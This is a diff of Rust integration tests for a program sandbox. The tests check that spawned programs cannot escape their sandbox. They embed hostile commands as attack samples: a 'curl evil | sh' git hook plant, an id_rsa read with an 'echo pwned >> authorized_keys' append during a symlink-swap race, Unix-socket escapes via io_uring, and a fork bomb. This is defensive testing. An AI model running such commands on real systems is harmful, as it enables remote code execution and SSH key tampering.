@@ -40,7 +40,12 @@ impl Fixture {
         let text = manifest(GUEST, &[], &format!("{extra}\n[capabilities.spawn]\n{body}"));
         let hash = harness.install(GUEST, &guest_wasm(GUEST), &text).await;
         let inputs = [("spawn_op", "string", false), ("values", "object", false), ("envelope", "object", false)];
-        let spec = ActionSpec { capabilities, inputs: &inputs, timeout_seconds, ..ActionSpec::new(GUEST, GUEST, &hash, "run") };
+        let spec = ActionSpec {
+            capabilities,
+            inputs: &inputs,
+            timeout_seconds,
+            ..ActionSpec::new(GUEST, GUEST, &hash, "run")
+        };
         let added = harness.add_action("spawner.md", &spec.render()).await;
         assert_eq!(added.status, StatusCode::CREATED, "{}", added.body);
         Fixture { harness, user_home }
@@ -130,7 +135,8 @@ async fn a_declared_operation_runs_with_its_output_exit_code_and_an_audit_record
 
 #[tokio::test]
 async fn output_beyond_the_caps_is_cut_with_a_marker() {
-    let spawn = format!("{}\n[capabilities.spawn.limits]\nmax_stdout_bytes = 100\nmax_stderr_bytes = 10\n", hostile_spawn());
+    let spawn =
+        format!("{}\n[capabilities.spawn.limits]\nmax_stdout_bytes = 100\nmax_stderr_bytes = 10\n", hostile_spawn());
     let fixture = Fixture::new(&spawn, "", HOSTILE_CAPABILITIES, None).await;
     let output = fixture.bash("head -c 1000000 /dev/zero | tr '\\0' a; head -c 50 /dev/zero | tr '\\0' b >&2").await;
     let stdout = output["stdout"].as_str().unwrap();
@@ -265,9 +271,8 @@ async fn bombs_and_runaways_are_stopped_and_leave_nothing_behind() {
     assert_eq!(wait_until_gone("fork-bomb-4d2a"), Vec::<String>::new());
 
     // A child that ignores SIGTERM and double-forks a sleeper that outlives it.
-    let runaway = fixture
-        .op("sh", json!({"script": "trap '' TERM; (trap '' TERM; setsid sleep 987654 &) ; sleep 987653"}))
-        .await;
+    let runaway =
+        fixture.op("sh", json!({"script": "trap '' TERM; (trap '' TERM; setsid sleep 987654 &) ; sleep 987653"})).await;
     assert_eq!(runaway.body["error"]["class"], "resource_limit_exceeded", "{}", runaway.body);
     assert_eq!(runaway.body["error"]["details"]["limit"], "time", "{}", runaway.body);
     assert_eq!(wait_until_gone("98765"), Vec::<String>::new());
@@ -298,10 +303,8 @@ description = "Show a file"
     let missing = fixture.op("show", json!({"path": "x"})).await;
     assert_eq!(missing.body["error"]["details"]["boundary_detail"], "envelope", "{}", missing.body);
 
-    let undeclared = fixture
-        .harness
-        .run(GUEST, json!({"envelope": {"program": "/bin/sh", "argv": ["sh", "-c", "id"]}}))
-        .await;
+    let undeclared =
+        fixture.harness.run(GUEST, json!({"envelope": {"program": "/bin/sh", "argv": ["sh", "-c", "id"]}})).await;
     assert_eq!(undeclared.body["error"]["class"], "capability_denied", "{}", undeclared.body);
     let smuggled = fixture
         .harness
@@ -404,7 +407,10 @@ description = "A program pinned to other bytes"
     stop.store(true, std::sync::atomic::Ordering::Relaxed);
     assert!(flipper.join().unwrap() > 40, "the link flipped during the calls");
     assert!(!outcomes.contains_key("exit 1"), "the unpinned binary ran: {outcomes:?}");
-    assert!(outcomes.keys().all(|outcome| ["exit 0", "hash_mismatch", "capability_denied"].contains(&outcome.as_str())), "{outcomes:?}");
+    assert!(
+        outcomes.keys().all(|outcome| ["exit 0", "hash_mismatch", "capability_denied"].contains(&outcome.as_str())),
+        "{outcomes:?}"
+    );
 }
 
 #[tokio::test]
@@ -422,7 +428,13 @@ description = "Run a shell script"
     let harness_with_key = |declares: bool| async move {
         let capabilities: &[&str] = if declares { &["run", "spawn:sh", "api_key"] } else { &["run", "spawn:sh"] };
         let harness = Harness::with_credentials(std::sync::Arc::new(crate::support::PlantedKey(KEY)));
-        let hash = harness.install(GUEST, &guest_wasm(GUEST), &manifest(GUEST, &[], &format!("{credential}[capabilities.spawn]\n{spawn}"))).await;
+        let hash = harness
+            .install(
+                GUEST,
+                &guest_wasm(GUEST),
+                &manifest(GUEST, &[], &format!("{credential}[capabilities.spawn]\n{spawn}")),
+            )
+            .await;
         let inputs = [("spawn_op", "string", false), ("values", "object", false)];
         let spec = ActionSpec { capabilities, inputs: &inputs, ..ActionSpec::new(GUEST, GUEST, &hash, "run") };
         assert_eq!(harness.add_action("spawner.md", &spec.render()).await.status, StatusCode::CREATED);
@@ -449,16 +461,25 @@ async fn without_namespaces_nothing_runs_and_the_failure_says_so() {
     // namespace cannot be created there, as on machines that disable them.
     let wrapper_dir = tempfile::tempdir().unwrap();
     let wrapper = wrapper_dir.path().join("helper");
-    std::fs::write(&wrapper, format!("#!/bin/sh\nexec unshare --user {} \"$@\"\n", env!("CARGO_BIN_EXE_aileron"))).unwrap();
+    std::fs::write(&wrapper, format!("#!/bin/sh\nexec unshare --user {} \"$@\"\n", env!("CARGO_BIN_EXE_aileron")))
+        .unwrap();
     std::fs::set_permissions(&wrapper, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
     let harness = Harness::with_options(|options| options.spawn_helper = Some(wrapper.clone()));
     let canary = harness.temp.path().join("ran");
     let spawn = hostile_spawn().replace("~/out/", &format!("{}/", harness.temp.path().display()));
-    let hash = harness.install(GUEST, &guest_wasm(GUEST), &manifest(GUEST, &[], &format!("[capabilities.spawn]\n{spawn}"))).await;
+    let hash = harness
+        .install(GUEST, &guest_wasm(GUEST), &manifest(GUEST, &[], &format!("[capabilities.spawn]\n{spawn}")))
+        .await;
     let inputs = [("spawn_op", "string", false), ("values", "object", false)];
-    let spec = ActionSpec { capabilities: HOSTILE_CAPABILITIES, inputs: &inputs, ..ActionSpec::new(GUEST, GUEST, &hash, "run") };
+    let spec = ActionSpec {
+        capabilities: HOSTILE_CAPABILITIES,
+        inputs: &inputs,
+        ..ActionSpec::new(GUEST, GUEST, &hash, "run")
+    };
     assert_eq!(harness.add_action("spawner.md", &spec.render()).await.status, StatusCode::CREATED);
-    let ran = harness.run(GUEST, json!({"spawn_op": "sh", "values": {"script": format!("touch {}", canary.display())}})).await;
+    let ran = harness
+        .run(GUEST, json!({"spawn_op": "sh", "values": {"script": format!("touch {}", canary.display())}}))
+        .await;
     assert_eq!(ran.body["error"]["class"], "spawn_sandbox_unavailable", "{}", ran.body);
     assert_eq!(ran.status.as_u16(), 503, "{}", ran.body);
     assert!(ran.body["error"]["message"].as_str().unwrap().contains("namespaces"), "{}", ran.body);
@@ -501,7 +522,9 @@ async fn the_git_example_connector_reads_a_repository_and_nothing_else() {
     std::fs::write(package.join("connector.wasm"), aileron::cli::demo::GIT_WASM).unwrap();
     std::fs::write(package.join("manifest.toml"), aileron::cli::demo::git_manifest_for(&repos)).unwrap();
     let reference = "github://aileron/git@0.1.0";
-    let preview = harness.request("POST", "/v1/connectors/preview", Some(json!({"source": package, "reference": reference}))).await;
+    let preview = harness
+        .request("POST", "/v1/connectors/preview", Some(json!({"source": package, "reference": reference})))
+        .await;
     assert_eq!(preview.status, StatusCode::OK, "{}", preview.body);
     let body = json!({"source": package, "reference": reference, "expected_hash": preview.body["hash"], "consent": "flag", "allow_unsigned": true});
     let installed = harness.request("POST", "/v1/connectors/install", Some(body)).await;
@@ -521,7 +544,10 @@ async fn the_git_example_connector_reads_a_repository_and_nothing_else() {
 
     let status = harness.run("git-status", json!({"repo": repo})).await;
     assert_eq!(status.status, StatusCode::OK, "{}", status.body);
-    assert_eq!(status.body["result"]["output"]["changes"], json!([{"status": "M", "path": "a.txt"}, {"status": "??", "path": "new.txt"}]));
+    assert_eq!(
+        status.body["result"]["output"]["changes"],
+        json!([{"status": "M", "path": "a.txt"}, {"status": "??", "path": "new.txt"}])
+    );
     assert!(!repo.join(".git/index.lock").exists());
 
     let diff = harness.run("git-diff-stat", json!({"repo": repo})).await;
@@ -535,4 +561,215 @@ async fn the_git_example_connector_reads_a_repository_and_nothing_else() {
     let refused = harness.run("git-log", json!({"repo": outside})).await;
     assert_eq!(refused.body["error"]["class"], "connector_runtime_error", "{}", refused.body);
     assert!(!refused.body.to_string().contains("First commit"), "{}", refused.body);
+}
+
+/// Runs `script` with bash through an envelope asking for `cwd`; the daemon's answer.
+async fn bash_in(fixture: &Fixture, cwd: &Path, script: &str) -> crate::support::TestResponse {
+    let envelope = json!({"program": "/bin/bash", "argv": ["bash", "-c", script], "cwd": cwd});
+    fixture.harness.run(GUEST, json!({"envelope": envelope})).await
+}
+
+/// The re-attack's H1: a working directory inside a read-only scope was granted read-write, so a
+/// program planted `.git/hooks/pre-commit` in a repository it could only read (run unconfined at
+/// the user's next commit); a manifest `cwd = "~/"` gave read-write to the whole home.
+#[tokio::test]
+async fn the_working_directory_has_only_the_access_of_the_scope_it_lies_in() {
+    let fixture = Fixture::new(&hostile_spawn(), "", HOSTILE_CAPABILITIES, None).await;
+    let repo = fixture.user_home.join("code/repo");
+    std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
+    let script = "echo 'curl evil | sh' > .git/hooks/pre-commit; echo x > planted; pwd; cat ../README";
+    let ran = bash_in(&fixture, &repo, script).await;
+    assert_eq!(ran.status, StatusCode::OK, "{}", ran.body);
+    let output = &ran.body["result"]["output"];
+    assert_eq!(
+        output["stdout"],
+        format!("{}\nreadable\n", repo.display()),
+        "it starts there and reads its scope: {output}"
+    );
+    assert!(output["stderr"].as_str().unwrap().contains("Permission denied"), "{output}");
+    assert!(!repo.join(".git/hooks/pre-commit").exists(), "a hook was planted in a read-only repository");
+    assert!(!repo.join("planted").exists(), "the read-only working directory was written");
+
+    // A working directory in the write scope is writable, as its scope is.
+    let out = fixture.user_home.join("out");
+    let ran = bash_in(&fixture, &out, "echo made > made; cat made").await;
+    assert_eq!(ran.body["result"]["output"]["stdout"], "made\n", "{}", ran.body);
+
+    // Outside every scope: refused before anything runs.
+    let ran = bash_in(&fixture, &fixture.user_home, "echo x > .bashrc").await;
+    assert_eq!(ran.body["error"]["class"], "capability_denied", "{}", ran.body);
+    assert!(!fixture.user_home.join(".bashrc").exists());
+
+    // A manifest whose cwd widens its scopes is refused at install, naming the field.
+    let widened = hostile_spawn().replace("fs_write = [\"~/out/\"]", "fs_write = [\"~/out/\"]\ncwd = \"~/\"");
+    let dir = fixture.harness.temp.path().join("pkg-widened");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(dir.join("connector.wasm"), guest_wasm(GUEST)).unwrap();
+    std::fs::write(dir.join("manifest.toml"), manifest(GUEST, &[], &format!("[capabilities.spawn]\n{widened}")))
+        .unwrap();
+    let body = json!({"source": dir, "reference": "github://aileron-tests/spawner@1.0.0"});
+    let preview = fixture.harness.request("POST", "/v1/connectors/preview", Some(body)).await;
+    assert_eq!(preview.status, StatusCode::BAD_REQUEST, "{}", preview.body);
+    let message = preview.body.to_string();
+    assert!(
+        message.contains("capabilities.spawn.cwd") && message.contains("not within any fs_read or fs_write scope"),
+        "{message}"
+    );
+}
+
+/// `renameat2(RENAME_EXCHANGE)`: swaps two names atomically.
+fn exchange(a: &Path, b: &Path) -> bool {
+    let (a, b) = (
+        std::ffi::CString::new(a.as_os_str().as_encoded_bytes()).unwrap(),
+        std::ffi::CString::new(b.as_os_str().as_encoded_bytes()).unwrap(),
+    );
+    // SAFETY: renameat2 with two valid C strings.
+    unsafe {
+        libc::syscall(
+            libc::SYS_renameat2,
+            libc::AT_FDCWD,
+            a.as_ptr(),
+            libc::AT_FDCWD,
+            b.as_ptr(),
+            libc::RENAME_EXCHANGE,
+        ) == 0
+    }
+}
+
+/// The re-attack's H2: the daemon checked the working directory's path, the helper later entered
+/// it following symlinks; a directory swapped with a symlink to `~/.ssh` during concurrent runs
+/// gave 4 of 30 runs read-write access to it. Now the helper opens it once beneath its scope
+/// without following links: every run reads its own directory or is refused.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_working_directory_swapped_for_a_symlink_mid_run_never_leads_out_of_the_scope() {
+    let fixture = Fixture::new(&hostile_spawn(), "", HOSTILE_CAPABILITIES, None).await;
+    let work = fixture.user_home.join("code/work");
+    let link = fixture.user_home.join("code/link");
+    std::fs::create_dir_all(&work).unwrap();
+    std::fs::write(work.join("id_rsa"), "harmless\n").unwrap();
+    std::os::unix::fs::symlink(fixture.user_home.join(".ssh"), &link).unwrap();
+
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let swapper = {
+        let (stop, work, link) = (stop.clone(), work.clone(), link.clone());
+        std::thread::spawn(move || {
+            let mut swaps = 0u64;
+            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
+                swaps += exchange(&work, &link) as u64;
+            }
+            swaps
+        })
+    };
+    let script = "cat id_rsa; echo pwned >> authorized_keys";
+    let runs = (0..30).map(|_| bash_in(&fixture, &work, script));
+    let answers = futures_util::future::join_all(runs).await;
+    stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    assert!(swapper.join().unwrap() > 30, "the names were swapped during the runs");
+
+    let mut outcomes = std::collections::BTreeMap::new();
+    for answer in &answers {
+        let everything = answer.body.to_string();
+        assert!(!everything.contains(SECRET), "~/.ssh was read through the swapped directory: {everything}");
+        let outcome = match answer.body["result"]["output"]["stdout"].as_str() {
+            Some(stdout) => format!("ran: {}", stdout.trim()),
+            None => answer.body["error"]["class"].as_str().unwrap_or("?").to_string(),
+        };
+        *outcomes.entry(outcome).or_insert(0) += 1;
+    }
+    let ssh: Vec<String> = std::fs::read_dir(fixture.user_home.join(".ssh"))
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert_eq!(ssh, vec!["id_rsa".to_string()], "nothing was written to ~/.ssh: {outcomes:?}");
+    assert!(outcomes.keys().all(|o| o == "ran: harmless" || o == "capability_denied"), "{outcomes:?}");
+}
+
+/// Compiles `tests/attacks/unix_escape.c` (socket, io_uring and datagram-pair ways to a Unix
+/// socket) into `dir`.
+fn unix_escape_program(dir: &Path) -> PathBuf {
+    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/attacks/unix_escape.c");
+    let program = dir.join("unix_escape");
+    let built = std::process::Command::new("cc")
+        .arg("-O1")
+        .arg("-o")
+        .arg(&program)
+        .arg(&source)
+        .output()
+        .expect("cc is needed (Debian gcc)");
+    assert!(built.status.success(), "{}", String::from_utf8_lossy(&built.stderr));
+    program
+}
+
+/// The re-attack's H3: seccomp refused `socket(AF_UNIX)` but not io_uring (`IORING_OP_SOCKET`)
+/// nor a datagram `socketpair` + `sendto(path)`: a spawned program listed the user's ssh-agent
+/// keys and reached a datagram socket outside. Each way against a real ssh-agent, a real session
+/// bus and a datagram canary.
+#[tokio::test]
+async fn unix_sockets_outside_stay_out_of_reach_by_socket_io_uring_and_datagram_pairs() {
+    let sockets = tempfile::tempdir().unwrap();
+    let program = unix_escape_program(sockets.path());
+    let spawn = format!(
+        "programs = [{{ path = \"{program}\" }}]\n\n[capabilities.spawn.operations.escape]\nargv = \"{program} {{mode}} {{path}}\"\ndescription = \"Try to reach a Unix socket\"\n",
+        program = program.display()
+    );
+    let fixture = Fixture::new(&spawn, "", &["run", "spawn:escape"], None).await;
+
+    /// Kills the targets whatever the test's outcome.
+    struct Targets(Vec<std::process::Child>);
+    impl Drop for Targets {
+        fn drop(&mut self) {
+            for child in &mut self.0 {
+                let _ = child.kill();
+                let _ = child.wait();
+            }
+        }
+    }
+    let agent_socket = sockets.path().join("agent.sock");
+    let agent = std::process::Command::new("ssh-agent")
+        .arg("-D")
+        .arg("-a")
+        .arg(&agent_socket)
+        .stdout(std::process::Stdio::null())
+        .spawn()
+        .expect("ssh-agent (Debian openssh-client)");
+    let bus_socket = sockets.path().join("bus");
+    let bus = std::process::Command::new("dbus-daemon")
+        .args(["--session", "--nofork", "--nopidfile"])
+        .arg(format!("--address=unix:path={}", bus_socket.display()))
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("dbus-daemon (Debian dbus-daemon)");
+    let _targets = Targets(vec![agent, bus]);
+    let canary_path = sockets.path().join("canary.dgram");
+    let canary = std::os::unix::net::UnixDatagram::bind(&canary_path).unwrap();
+    canary.set_nonblocking(true).unwrap();
+    for _ in 0..100 {
+        if agent_socket.exists() && bus_socket.exists() {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    // The targets answer from outside the sandbox.
+    assert!(
+        std::os::unix::net::UnixStream::connect(&agent_socket).is_ok()
+            && std::os::unix::net::UnixStream::connect(&bus_socket).is_ok()
+    );
+
+    let attempts = [
+        ("socket", &agent_socket),
+        ("uring", &agent_socket),
+        ("socket", &bus_socket),
+        ("uring", &bus_socket),
+        ("dgram", &canary_path),
+    ];
+    for (mode, target) in attempts {
+        let ran = fixture.op("escape", json!({"mode": mode, "path": target})).await;
+        assert_eq!(ran.status, StatusCode::OK, "{mode} {}: {}", target.display(), ran.body);
+        let stdout = ran.body["result"]["output"]["stdout"].as_str().unwrap().to_string();
+        assert!(!stdout.contains("REACHED"), "{mode} reached {}: {stdout}", target.display());
+        assert!(stdout.contains("refused"), "{mode}: {stdout}");
+    }
+    let mut buffer = [0u8; 16];
+    assert!(canary.recv(&mut buffer).is_err(), "the datagram canary received a message");
 }
